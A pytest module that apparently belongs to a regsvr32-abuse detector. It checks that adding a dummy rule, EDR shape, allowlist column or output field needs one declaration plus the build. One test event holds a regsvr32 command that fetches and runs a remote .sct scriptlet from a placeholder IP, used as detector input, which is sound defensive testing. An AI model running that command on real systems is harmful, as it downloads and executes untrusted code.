"""Adding a rule, an EDR shape, an allowlist column or an output field is one declaration plus
the build: shown in a private copy of the repository, where each is added once (a dummy of each),
`python3 tools/build.py` runs, the check finds nothing stale, what the build renders names each
(the new column an input and a search field of the allowlist views among them), and the tests
that read those declarations pass there, the verdict snapshot unchanged among them. The one thing
a new EDR shape needs besides its declaration, a converter in tests/support/edr_shapes.py (an
independent reading of the vendor's schema, not generated), is asked for by name.
"""
import json
import os
import re
import shutil
import subprocess
import sys

import pytest

from conftest import LIB, ROOT

pytestmark = pytest.mark.slow

DETECTOR = os.path.join("app", "bin", "regsvr32_detector")

RULE = '''

@rule("R32-099", "Dummy rule added by tests/test_one_declaration.py",
      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
      evidence="invocation", techniques=(T,), sources=("L05",),
      description="Fires on a module no one ships (zzdummy99.dll).",
      positives=("regsvr32 /s C:\\\\Windows\\\\System32\\\\zzdummy99.dll",),
      negatives=("regsvr32 /s C:\\\\Windows\\\\System32\\\\msxml6.dll",),
      sigma=not_exportable("a dummy"))
def dummy(inv):
    if ("module name", "zzdummy99.dll") in inv.first:
        return "module zzdummy99.dll registered"
    return None
'''

SHAPE = '''
    Shape("dummyedr", ("dummy_event",), {"DummyProcessStart": PROCESS}, {
        PROCESS: (("image", ("dummy_image",)), ("command_line", ("dummy_cmdline",)),
                  ("parent_image", ("dummy_parent",)), ("user", ("dummy_user",))),
    }, host="dummy_host", title="Dummy EDR (added by tests/test_one_declaration.py)",
        about="Dummy EDR events regsvr32detect reads."),
)
'''

COLUMN = '''    ("process_hash", "text", ("hashes",), None, "the process's hashes (a dummy column)"),
))
MATCHERS ='''

OUTPUT = '''    Output("regsvr32_rule_count", "how many rules found something (a dummy field)",
           derive=lambda verdict: str(len(verdict.rules))),
)
OUTPUT_FIELDS ='''


def _edit(path, old, new):
    with open(path, encoding="utf-8") as f:
        text = f.read()
    assert text.count(old) == 1, (path, old)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text.replace(old, new))


def _add_shape(path):
    """Put SHAPE as the last entry of fields.EDR_SHAPES."""
    with open(path, encoding="utf-8") as f:
        text = f.read()
    start = text.index("\nEDR_SHAPES = (\n")
    end = re.compile(r"^\)\n", re.M).search(text, start).start()
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text[:end] + SHAPE.lstrip("\n") + text[end + 2:])


def _run(args, cwd):
    return subprocess.run(args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                          universal_newlines=True, timeout=300)


@pytest.fixture(scope="module")
def copy(tmp_path_factory):
    """The repository with one dummy of each kind declared, and the build run."""
    dest = str(tmp_path_factory.mktemp("one-declaration") / "repo")
    shutil.copytree(ROOT, dest, symlinks=True, ignore=shutil.ignore_patterns(
        ".git", "node_modules", "__pycache__", ".pytest_cache", ".hypothesis", "lib", "dist",
        "corpus", "render"))
    os.symlink(LIB, os.path.join(dest, "app", "bin", "lib"))
    with open(os.path.join(dest, DETECTOR, "rules", "command_line.py"), "a", encoding="utf-8") as f:
        f.write(RULE)
    _add_shape(os.path.join(dest, DETECTOR, "fields.py"))
    _edit(os.path.join(dest, DETECTOR, "allowlist_columns.py"), "))\nMATCHERS =", COLUMN)
    _edit(os.path.join(dest, DETECTOR, "detector.py"), ")\nOUTPUT_FIELDS =", OUTPUT)
    stale = _run([sys.executable, "tools/build.py", "--check"], dest)
    assert stale.returncode == 1 and "run python3 tools/build.py" in stale.stdout, stale.stdout
    build = _run([sys.executable, "tools/build.py"], dest)
    assert build.returncode == 0, build.stdout
    return dest


def _read(copy, *parts):
    with open(os.path.join(copy, *parts), encoding="utf-8") as f:
        return f.read()


def test_the_build_renders_each_new_declaration(copy):
    assert _run([sys.executable, "tools/build.py", "--check"], copy).returncode == 0
    assert "| R32-099 | **Dummy rule" in _read(copy, "docs", "rules.md")
    assert "| R32-099 | not exported | | a dummy |" in _read(copy, "docs", "sigma.md")
    assert ("**Dummy EDR (added by tests/test_one_declaration.py)** (`regsvr32_edr_dummyedr`)"
            in _read(copy, "docs", "edr.md"))
    assert "| `process_hash` |" in _read(copy, "docs", "allowlists.md")
    assert "| `regsvr32_rule_count` | no |" in _read(copy, "README.md")
    macros = _read(copy, "app", "default", "macros.conf")
    assert "[regsvr32_edr_dummyedr]\ndefinition = (dummy_event IN (DummyProcessStart))\n" in macros
    assert "dummy_event IN (DummyProcessStart)" in macros.split("[regsvr32_edr_process_starts]")[1]
    assert 'dummy_host="$dest$"' in macros and "'endpoint.name', device_name, 'host.name', dummy_host, host)" in macros
    assert "WILDCARD(host), WILDCARD(process_hash)\n" in _read(copy, "app", "default", "transforms.conf")
    lookup = _read(copy, "app", "lookups", "regsvr32_allowlist_default.csv")
    assert lookup.startswith(",".join(("rule_id", "image")) + ",") and ",host,process_hash,reason," in lookup
    for doc in (("README.md",), ("app", "README.md"), ("docs", "allowlists.md")):
        assert "\nrule_id,image," in _read(copy, *doc) and ",host,process_hash,reason," in _read(copy, *doc), doc
    assert "R32-099" in _read(copy, "app", "default", "savedsearches.conf")
    assert "regsvr32_rule_count (how many rules found something" in _read(
        copy, "app", "default", "searchbnf.conf")


def _view(copy, name):
    text = _read(copy, "app", "default", "data", "ui", "views", name + ".xml")
    return json.loads(re.search(r"<!\[CDATA\[(.*)\]\]>", text, re.S).group(1))


def test_the_build_puts_a_new_column_in_the_allowlist_views(copy):
    add = _view(copy, "regsvr32_allowlist_add")
    assert add["inputs"]["input_process_hash"] == {
        "type": "input.text", "title": "Process hash",
        "options": {"token": "process_hash", "defaultValue": " "}}
    inputs = add["layout"]["globalInputs"]
    assert inputs.index("input_host") + 1 == inputs.index("input_process_hash") == \
        inputs.index("input_reason") - 1
    queries = dict((name, s["options"]["query"]) for name, s in add["dataSources"].items())
    for name in ("ds_check", "ds_preview", "ds_write"):
        assert "&host=$host|u$&process_hash=$process_hash|u$&reason=" in queries[name], name
    for name in ("ds_check", "ds_write"):
        assert " user host process_hash reason source expires added_by added_on" in queries[name], name
    health = _view(copy, "regsvr32_allowlist_health")["dataSources"]["ds_rows"]["options"]["query"]
    assert health.endswith(" registry_path user host process_hash source file line")


CONVERTERS_COVER = "tests/test_edr_shapes.py::test_the_independent_converters_cover_exactly_the_declared_shapes"


def test_the_tests_that_read_the_declarations_pass_in_the_copy(copy):
    # The dummy shape goes through the shape tests parametrized by fields.EDR_SHAPES (its macro,
    # its aliases); the one tying the shapes to their converters is the next test's.
    # -n 0: one process; this test already runs beside the suite's other workers
    run = _run([sys.executable, "-m", "pytest", "-q", "-x", "-p", "no:cacheprovider", "-n", "0",
                "tests/test_build.py", "tests/test_registry.py", "tests/test_rules.py",
                "tests/test_memo_key.py", "tests/test_detector.py", "tests/test_allowlist.py",
                "tests/test_verdict_snapshot.py", "tests/test_edr_shapes.py",
                "--deselect", CONVERTERS_COVER], copy)
    assert run.returncode == 0, run.stdout[-4000:]
    assert " passed" in run.stdout
    collected = _run([sys.executable, "-m", "pytest", "-q", "--collect-only", "-p", "no:cacheprovider", "-n", "0",
                      "tests/test_edr_shapes.py"], copy)
    assert "test_each_edr_macro_selects_the_event_types_the_detector_reads[dummyedr]" in collected.stdout
    assert "test_every_edr_alias_names_an_event_field_and_every_kind_is_known[dummyedr]" in collected.stdout


def test_a_shape_without_a_converter_is_named_with_what_to_add(copy):
    # The converters of tests/support/edr_shapes.py are a second reading of each vendor's schema,
    # written apart from fields.py on purpose: the build cannot write one, so the suite says
    # which shape lacks it and where it goes.
    run = _run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-n", "0", CONVERTERS_COVER], copy)
    assert run.returncode == 1, run.stdout[-4000:]
    assert "EDR shape(s) dummyedr declared in fields.EDR_SHAPES without a converter: add a " \
           "converter to tests/support/edr_shapes.py" in run.stdout, run.stdout[-4000:]


def test_the_memo_key_follows_a_column_that_reads_an_identity_value(copy):
    # The dummy column reads the process hash, which no rule reads: once a row names it, two
    # events alike but for their hashes get their own verdicts from one detector.
    code = r'''
import sys
sys.path[:0] = ["app/bin", "app/bin/lib", "tests"]
from regsvr32_detector import Detector, load_allowlists
from support.allowlists import HEADER, allowlist_row
open("a.csv", "w").write(HEADER + allowlist_row(rule_id="*", reason="r", process_hash="sha256=aa"))
det = Detector(load_allowlists(["a.csv"])[0])
event = {"EventCode": "1", "Image": "C:\\Windows\\System32\\regsvr32.exe",
         "CommandLine": "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll", "Hashes": "SHA256=AA"}
first = [det.evaluate(dict(event, Hashes=h)).score for h in ("SHA256=AA", "SHA256=BB") * 2]
print(first, det.evaluate(dict(event, Hashes="SHA256=AA")).fields()["regsvr32_rule_count"])
'''
    run = _run([sys.executable, "-c", code], copy)
    assert run.returncode == 0, run.stdout
    assert run.stdout.split() == ["[0,", "100,", "0,", "100]", "0"], run.stdout
